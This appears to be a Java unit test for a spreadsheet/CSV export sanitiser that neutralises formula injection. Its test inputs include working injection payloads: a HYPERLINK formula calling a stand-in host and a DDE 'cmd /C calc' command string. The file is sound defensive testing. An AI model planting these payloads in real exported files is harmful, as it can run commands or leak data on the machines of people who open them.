package org.renewal.platform.export;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class SafeCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1,2)", "\t=1", "\r=1", "＝1+1", "-", "=", "+86 431 1234"})
    void aCellThatCouldBeAFormulaIsWrittenAsText(String value) {
        assertThat(SafeCells.text(value)).isEqualTo("'" + value);
        assertThat(SafeCells.read(SafeCells.text(value))).isEqualTo(value);
        assertThat(SafeCells.csv(value)).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
    }

    @ParameterizedTest
    @ValueSource(strings = {"长春市幸福小区", "220302001", "-12.5", "-3", "a=b", "125.33", "x@y"})
    void ordinaryTextAndPlainNumbersAreUnchanged(String value) {
        assertThat(SafeCells.text(value)).isEqualTo(value);
        assertThat(SafeCells.read(value)).isEqualTo(value);
    }

    @Test
    void anApostropheBeforeOrdinaryTextIsKeptOnReading() {
        assertThat(SafeCells.read("'quoted")).isEqualTo("'quoted");
        assertThat(SafeCells.read("'")).isEqualTo("'");
    }

    @Test
    void csvFieldsAreQuotedAfterNeutralising() {
        assertThat(SafeCells.csv("=1,2")).isEqualTo("\"'=1,2\"");
        assertThat(SafeCells.csv("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(SafeCells.csv(null)).isEmpty();
    }
}
